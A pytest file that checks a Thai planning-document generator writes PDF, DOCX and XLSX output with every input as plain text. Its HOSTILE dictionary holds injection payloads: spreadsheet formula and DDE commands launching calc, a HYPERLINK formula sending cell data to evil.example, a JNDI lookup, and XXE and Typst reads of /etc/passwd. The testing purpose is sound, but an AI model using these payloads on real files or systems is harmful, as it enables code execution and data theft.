"""Text is data: whatever a document says, it reaches paper as letters, never as markup, formula, field or link."""

import io
import re
import time
import zipfile
from decimal import Decimal

import pikepdf
import pypdfium2
import pytest
from lxml import etree
from msgspec.structs import replace
from python_calamine import CalamineWorkbook
from tests.core.papers import invented
from tests.core.papers.looking import docx_xml, pdf_pages, squeezed

from sucharit.core import papers
from sucharit.core.fiscal import FiscalSpan
from sucharit.core.papers.paper import (
    Cell,
    Column,
    Contents,
    Cover,
    Heading,
    HeatMap,
    Item,
    KeyValue,
    Metadata,
    Notice,
    NumberedList,
    PageBreak,
    Paper,
    Section,
    Signature,
    Table,
    text,
)
from sucharit.core.papers.writing.printable import clean
from sucharit.core.plan import Organization, RiskCriteria, Target

HOSTILE = {
    "typst code": '#import "@preview/x:1.0.0": y #panic("boom") #read("/etc/passwd") #include "main.typ"',
    "typst math": "$x^2$ *bold* _it_ `raw` = Heading\n- list + enum / term: <label> @ref \\ ~ -- // comment /* */",
    "formula": "=cmd|' /C calc'!A0",
    "formula plus": "+1+1",
    "formula minus": "-2+3",
    "formula at": "@SUM(1+1)",
    "tab formula": "\t=1+1",
    "link": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"ดู\") http://evil.example mailto:a@b.c",
    "template": "{{7*7}} {% for x in y %} ${jndi:ldap://x} %(name)s",
    "xml": '</w:t></w:r></w:p><w:p> & " \' ]]> <!-- --> <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]> &e;',
    "control": "ก\x00ข\x07ค\x1bง\x7fจ\x85ฉ\u2028ช\u2029ซ",
    "direction": "ราคา \u202e000,001\u202c \u2066x\u2069 \u200fก\u200e",
    "surrogates": "ก\ud800ข\udfffค",
    "not characters": "ก\ufffe\uffffข\ufdd0",
    "private": "ก\uf701\ue000ข",
    "foreign": "عربي עברית 中文 🙂 ﷺ ½ ㎡ ①",
    "zalgo": "ก" + "\u0e49" * 200,
    "field codes": 'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" { INCLUDETEXT "x" }',
    "empty": "",
    "blank": " \n \t ",
}  # fmt: skip


def paper_of(words: str) -> Paper:
    """The words in every place that a paper has."""
    table = Table(
        columns=(Column(width=1), Column(width=2)),
        header=((Cell(content=words), Cell(content=words)),),
        rows=((Cell(content=words, rows=2), Cell(content=words)), (Cell(content=Decimal(3)),)),
        zero=words[:20],
    )
    return Paper(
        kind="x",
        title=words,
        metadata=Metadata(organization=words, subject=words, span=words, digest=words, date=words),
        blocks=(
            Cover(title=(words,), years=words, organization=words, place=words),
            Section(numbers="letters", restart=True),
            Contents(title=words or "สารบัญ"),
            Heading(text=words, level=1, bookmark=words),
            Heading(text=words, level=6),
            text(words, first_line=True),
            NumberedList(
                items=(Item(text=words, marker=words[:5], items=(Item(text=words, marker="-"),)), Item(text=words))
            ),
            table,
            HeatMap(rows=((2, ((words, 1, (1,)), ("", None, ()))), (1, (("ต่ำ", 1, ()), ("สูง", 3, (2, 3)))))),
            KeyValue(pairs=((words, words),)),
            PageBreak(),
            Signature(name=words, position=(words,), rule=words),
            Notice(text=words),
        ),
    )


def letters(words: str) -> str:
    """Only what every format keeps: Thai letters without marks, and Latin letters and signs."""
    return re.sub(r"[^\u0e01-\u0e2e\u0e40-\u0e46!-~]", "", squeezed(words)).translate(
        str.maketrans("๐๑๒๓๔๕๖๗๘๙", "0123456789")
    )


@pytest.mark.parametrize("name", HOSTILE)
def test_a_pdf_shows_the_words_and_nothing_else(name: str):
    words = HOSTILE[name]
    shown = letters("".join(pdf_pages(papers.write_pdf(paper_of(words), digits="arabic"))))
    assert letters(clean(words)) in shown
    assert "root:" not in shown


@pytest.mark.parametrize("name", HOSTILE)
def test_a_docx_holds_the_words_as_text(name: str):
    words = HOSTILE[name]
    docx = papers.write_docx(paper_of(words), digits="arabic")
    with zipfile.ZipFile(io.BytesIO(docx)) as package:
        for part in package.namelist():
            if part.endswith((".xml", ".rels")):
                etree.fromstring(package.read(part))
    body = etree.fromstring(docx_xml(docx).encode())
    namespace = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    assert letters(clean(words)) in letters("".join(body.itertext(f"{namespace}t")))
    fields = list(body.itertext(f"{namespace}instrText"))
    assert all(re.fullmatch(r" PAGEREF _Toc\d+ \\h ", field) for field in fields)


@pytest.mark.parametrize("name", HOSTILE)
def test_an_xlsx_holds_the_words_as_strings(name: str):
    words = HOSTILE[name]
    xlsx = papers.write_xlsx(paper_of(words), digits="arabic")
    with zipfile.ZipFile(io.BytesIO(xlsx)) as package:
        parts = {part: package.read(part) for part in package.namelist()}
    assert not any(b"hyperlink" in data.lower() for part, data in parts.items() if "worksheets" in part)
    assert not any(b"<f>" in data for part, data in parts.items() if "worksheets" in part)
    book = CalamineWorkbook.from_filelike(io.BytesIO(xlsx))
    cells = [
        str(cell) for sheet in book.sheet_names for row in book.get_sheet_by_name(sheet).to_python() for cell in row
    ]
    assert letters(clean(words)) in letters("".join(cells))


@pytest.mark.parametrize("word", ["ก" * 20_000, "a" * 20_000, "๑" * 20_000, "กู้" * 7_000])
def test_a_word_without_an_end_costs_little_and_is_not_cut_off(word: str):
    cells = (Cell(content=word), Cell(content="ข"))
    table = Table(columns=(Column(width=1), Column(width=1)), rows=(cells,))
    paper = Paper(kind="x", title="t", blocks=(Heading(text="h"), text(word), table))
    start = time.perf_counter()
    pdf, docx, xlsx = papers.write_pdf(paper), papers.write_docx(paper), papers.write_xlsx(paper)
    assert time.perf_counter() - start < 10
    assert squeezed("".join(pdf_pages(pdf))).count(word[:1]) >= 2 * word.count(word[:1])
    assert word in docx_xml(docx)
    assert word in str(CalamineWorkbook.from_filelike(io.BytesIO(xlsx)).get_sheet_by_index(0).to_python())


def test_no_page_is_wider_than_its_paper():
    """A long word in a narrow column is cut inside the column, not pushed over its edge."""
    columns = tuple(Column(width=1) for _ in range(12))
    rows = (tuple(Cell(content=words) for words in ("ก" * 60, "a" * 60, "องค์กรปกครองส่วนท้องถิ่น") * 4),)
    paper = Paper(kind="x", title="t", blocks=(Heading(text="h"), Table(columns=columns, rows=rows)))
    page = pypdfium2.PdfDocument(papers.write_pdf(paper))[0].get_textpage()
    boxes = [page.get_charbox(at) for at in range(page.count_chars())]
    assert max(right for _, _, right, _ in boxes) <= 595 - 55


def test_what_no_font_can_draw_is_an_empty_box_in_print_and_itself_elsewhere():
    paper = Paper(kind="x", title="t", blocks=(Heading(text="h"), text("ชื่อ 中 ①")))
    assert "ชื่อ□1" in squeezed(pdf_pages(papers.write_pdf(paper, digits="arabic"))[0])
    assert "中 ①" in docx_xml(papers.write_docx(paper))


def test_an_attachment_is_data_and_its_name_leads_nowhere():
    attachment = papers.Attachment(name="../../etc/x.bin", data=bytes(range(256)), mime_type="application/octet-stream")
    paper = Paper(kind="x", title="t", blocks=(Heading(text="h"),), attachments=(attachment,))
    with pikepdf.open(io.BytesIO(papers.write_pdf(paper))) as document:
        (carried,) = document.attachments.values()
        assert carried.get_file().read_bytes() == bytes(range(256))
        assert "/" not in carried.filename


def test_a_plan_in_which_every_value_is_odd_is_printed_all_the_same():
    base = invented.plan(5, count=3)
    odd = replace(
        base,
        title="",
        organization=Organization(name=""),
        span=FiscalSpan(1, 9999),
        budget_rows=tuple(
            replace(row, budgets={-1: Decimal("NaN"), 10**9: Decimal("-1E+400")}) for row in base.budget_rows
        ),
        targets=(Target(name="", by_year={0: Decimal("Infinity")}, baseline_year=-5),),
        risks=tuple(replace(risk, likelihood=-(10**9), impact=0, seq=10**9) for risk in base.risks),
        risk_criteria=RiskCriteria(matrix={7: (), -1: ("สูง",)}),
        initiatives=tuple(
            replace(one, objective_codes=("..", "", "1.1.1.1.1.1"), mission="x") for one in base.initiatives
        ),
        announced_on="2569-13-45",
    )
    for name in papers.papers_for(odd):
        paper = papers.paper(name, odd)
        assert all(write(paper) for write in (papers.write_pdf, papers.write_docx, papers.write_xlsx))
